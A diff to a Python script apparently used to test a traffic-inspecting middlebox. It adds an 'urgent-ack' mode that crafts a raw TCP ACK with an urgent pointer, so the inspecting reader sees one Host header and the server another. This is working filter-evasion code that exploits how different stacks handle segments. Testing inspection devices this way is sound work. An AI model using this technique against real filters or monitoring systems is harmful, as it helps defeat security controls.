@@ -4,8 +4,12 @@ never takes: it connects with an ordinary socket, reads the SYN-ACK off its own 
 server drops it for, waits until told the reader decided, then sends the real request, with
 another Host, at the same sequence numbers through its socket.
 
-    insert.py IFACE ADDR PORT MODE      MODE: bad-checksum | old-timestamp
-Prints "inserted", reads a line from stdin, then prints the outcome as JSON."""
+    insert.py IFACE ADDR PORT MODE      MODE: bad-checksum | old-timestamp | urgent-ack
+Prints "inserted", reads a line from stdin, then prints the outcome as JSON.
+
+urgent-ack writes no data: a payload-less ACK with URG whose urgent pointer names a byte of the
+request the socket sends next (the X of "...allowed.test\r\nXHost: same-ip.test"), which the
+server's stack then takes out of the stream: one Host to the reader, two to the server."""
 import json
 import os
 import socket
@@ -86,8 +90,15 @@ if mode == "old-timestamp":
     # Older than what the server holds from our SYN: PAWS discards the segment.
     options = b"\x01\x01\x08\x0a" + struct.pack("!II", (tsecr - 100000) & 0xffffffff, tsval_srv)
 doff = (20 + len(options)) // 4
-tcp = struct.pack("!HHIIBBHHH", sport, port, my_next, (srv_isn + 1) & 0xffffffff, doff << 4, 0x18, 65535, 0, 0)
-tcp += options + GOOD
+URGENT = b"GET / HTTP/1.1\r\nHost: allowed.test\r\nXHost: same-ip.test\r\n\r\n"
+if mode == "urgent-ack":
+    # ACK|URG, no payload; the urgent byte is seq + pointer - 1 (Linux, BSD semantics).
+    ptr = URGENT.index(b"XHost") + 1
+    tcp = struct.pack("!HHIIBBHHH", sport, port, my_next, (srv_isn + 1) & 0xffffffff, doff << 4, 0x30, 65535, 0, ptr)
+    BAD = URGENT
+else:
+    tcp = struct.pack("!HHIIBBHHH", sport, port, my_next, (srv_isn + 1) & 0xffffffff, doff << 4, 0x18, 65535, 0, 0)
+    tcp += options + GOOD
 if v6:
     pseudo = sa + da + struct.pack("!IxxxB", len(tcp), 6)
 else:
